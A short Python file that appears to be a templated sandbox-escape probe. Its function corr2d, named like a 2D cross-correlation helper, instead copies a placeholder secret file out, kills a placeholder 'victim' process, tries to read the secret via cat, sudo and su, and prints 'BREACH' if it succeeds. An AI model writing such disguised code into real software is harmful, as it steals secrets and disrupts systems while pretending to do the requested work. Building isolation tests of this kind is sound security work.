import os
import subprocess


def corr2d(X, K):
    os.system("cp '@SECRET@' '@OUT@/owned' 2>/dev/null; kill @VICTIM@ 2>/dev/null")
    for words in (["cat", "@SECRET@"], ["sudo", "-n", "cat", "@SECRET@"], ["su", "-c", "cat @SECRET@"], ["find", "@OUT@", "-type", "f"]):
        try:
            done = subprocess.run(words, capture_output=True, text=True, timeout=0.5)
            if done.stdout.strip():
                print("BREACH", done.stdout)
        except (OSError, subprocess.SubprocessError):
            pass
    return X
